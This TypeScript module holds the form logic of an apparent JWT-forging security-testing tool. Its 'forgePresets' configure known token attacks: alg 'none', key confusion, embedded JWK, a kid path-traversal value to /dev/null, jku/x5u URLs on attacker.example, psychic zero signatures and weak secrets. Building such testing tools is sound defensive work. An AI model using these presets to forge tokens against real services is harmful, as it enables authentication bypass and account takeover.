import type { TokenForge, TokenSigning, TokenSource } from '#shared/api/index.ts';
import type {
  CurveAlgorithm,
  KeyAlgorithm,
  MacAlgorithm,
  PayloadForm,
  PublicKeyForm,
} from '#shared/tokens/algorithms.ts';
import { readJsonObject, withMember } from '#shared/tokens/json-text.ts';
import { weakSecrets } from '#shared/tokens/weak-secrets.ts';

/** A secret of the built-in list is a secret like any other once it is chosen. */
type Kind = TokenSigning['kind'] | 'weak-secret';
type NoneSpelling = Extract<TokenSigning, { kind: 'none' }>['alg'];

/** All that can be typed to make a token; which of it counts is said by `kind`. */
export interface ForgeForm {
  readonly preset: string;
  readonly header: string;
  readonly claims: string;
  readonly kind: Kind;
  readonly spelling: NoneSpelling;
  readonly keyAlgorithm: KeyAlgorithm;
  readonly macAlgorithm: MacAlgorithm;
  readonly isEmbedded: boolean;
  readonly key: string;
  readonly secret: string;
  readonly clientId: string | null;
  readonly kid: string | null;
  readonly publicForm: PublicKeyForm;
  readonly keepsAlgorithm: boolean;
  readonly isAsTyped: boolean;
  readonly curveAlgorithm: CurveAlgorithm;
  readonly weakSecret: string;
  /** A public key to encrypt for; empty: that of the hosted server. */
  readonly publicKey: string;
  readonly payload: PayloadForm;
}

/** The form as it begins: with the texts of a token, or with those of a plain new one. */
export function firstForgeForm(
  token: { readonly header: string; readonly claims: string } | null,
  nowMillis: number,
): ForgeForm {
  const now = Math.floor(nowMillis / 1_000);
  const plain = { iss: 'https://issuer.example', sub: 'ann', aud: 'orders', iat: now, exp: now + 300 };
  return {
    preset: '',
    header: token?.header ?? JSON.stringify({ alg: 'ES256', typ: 'JWT' }, null, 2),
    claims: token?.claims ?? JSON.stringify(plain, null, 2),
    kind: 'session-key',
    spelling: 'none',
    keyAlgorithm: 'ES256',
    macAlgorithm: 'HS256',
    isEmbedded: false,
    key: '',
    secret: '',
    clientId: null,
    kid: null,
    publicForm: 'pem',
    keepsAlgorithm: false,
    isAsTyped: false,
    curveAlgorithm: 'ES256',
    weakSecret: weakSecrets[0] ?? '',
    publicKey: '',
    payload: 'encoded',
  };
}

/** Returns the signing method for the engine; null while something is missing. */
export function signingOf(form: ForgeForm, source: TokenSource | null): TokenSigning | null {
  const { kind, keyAlgorithm, macAlgorithm, clientId, kid } = form;
  switch (kind) {
    case 'none':
      return { kind, alg: form.spelling };
    case 'session-key':
      return { kind, algorithm: keyAlgorithm, isEmbedded: form.isEmbedded };
    case 'pasted-key':
      return form.key.trim() === '' ? null : { kind, text: form.key, algorithm: keyAlgorithm };
    case 'secret':
      return { kind, text: form.secret, algorithm: macAlgorithm };
    case 'client-secret':
      return clientId === null ? null : { kind, clientId, algorithm: macAlgorithm };
    case 'public-key':
      return { kind, kid, form: form.publicForm, algorithm: macAlgorithm };
    case 'weak-secret':
      return { kind: 'secret', text: form.weakSecret, algorithm: macAlgorithm };
    case 'zero':
      return { kind, algorithm: form.curveAlgorithm };
    case 'encrypted':
      return { kind, text: form.publicKey.trim() === '' ? null : form.publicKey };
    case 'original':
      return source === null ? null : { kind, source };
  }
}

/** Returns the input for the engine; null while the form is not complete. */
export function forgeOf(form: ForgeForm, source: TokenSource | null): TokenForge | null {
  const { header, claims, keepsAlgorithm, isAsTyped, payload } = form;
  const signing = signingOf(form, source);
  const isWritten = isAsTyped || (readJsonObject(header) !== null && readJsonObject(claims) !== null);
  return signing === null || !isWritten
    ? null
    : { header, claims, signing, keepsAlgorithm, isAsTyped, payload };
}

type Preset = (form: ForgeForm, nowMillis: number) => Partial<ForgeForm>;

const elsewhere = 'https://attacker.example';
const bySession = { kind: 'session-key', isEmbedded: false } as const;

/** The usual attacks, each as its changes to the form. RFC 8725 §2 and §3 */
export const forgePresets: Readonly<Record<string, Preset>> = {
  none: () => ({ kind: 'none', spelling: 'none' }),
  'none-case': () => ({ kind: 'none', spelling: 'NONE' }),
  confusion: () => ({ kind: 'public-key', macAlgorithm: 'HS256', publicForm: 'pem' }),
  jwk: ({ header }) => ({
    kind: 'session-key',
    isEmbedded: true,
    header: withMember(header, 'kid', undefined),
  }),
  // A file without content yields an empty secret.
  kid: ({ header }) => ({
    kind: 'secret',
    secret: '',
    macAlgorithm: 'HS256',
    header: withMember(header, 'kid', '../../../../../../dev/null'),
  }),
  jku: ({ header }) => ({ ...bySession, header: withMember(header, 'jku', `${elsewhere}/jwks.json`) }),
  x5u: ({ header }) => ({ ...bySession, header: withMember(header, 'x5u', `${elsewhere}/key.pem`) }),
  crit: ({ header }) => ({
    header: withMember(withMember(header, 'crit', ['x-unknown']), 'x-unknown', true),
  }),
  psychic: () => ({ kind: 'zero', curveAlgorithm: 'ES256' }),
  'weak-secret': ({ header }) => ({
    kind: 'weak-secret',
    macAlgorithm: 'HS256',
    header: withMember(header, 'kid', undefined),
  }),
  jwe: ({ header }) => ({
    kind: 'encrypted',
    publicKey: '',
    header: withMember(withMember(header, 'kid', undefined), 'typ', 'JWT'),
  }),
  b64: ({ header }) => ({
    payload: 'unencoded',
    header: withMember(withMember(header, 'b64', false), 'crit', ['b64']),
  }),
  nested: ({ header }) => ({ payload: 'nested', header: withMember(header, 'cty', 'JWT') }),
  // An access token says what it is, and an ID token does not: each goes where the other belongs. RFC 9068 §2.1
  typ: ({ header }) => {
    const typ = readJsonObject(header)?.value['typ'];
    const isAccessToken = typeof typ === 'string' && typ.toLowerCase().endsWith('at+jwt');
    return { header: withMember(header, 'typ', isAccessToken ? 'JWT' : 'at+jwt') };
  },
  original: () => ({ kind: 'original', keepsAlgorithm: true }),
  expired: ({ claims }, nowMillis) => ({
    claims: withMember(claims, 'exp', Math.floor(nowMillis / 1_000) - 3_600),
  }),
};

/** The form with a preset applied: what an earlier one wrote into the header is taken out first. */
export function withPreset(form: ForgeForm, preset: string, fresh: ForgeForm, nowMillis: number): ForgeForm {
  const base = {
    ...form,
    preset,
    header: fresh.header,
    isEmbedded: fresh.isEmbedded,
    keepsAlgorithm: false,
    payload: 'encoded',
  } as const;
  return { ...base, ...forgePresets[preset]?.(base, nowMillis) };
}
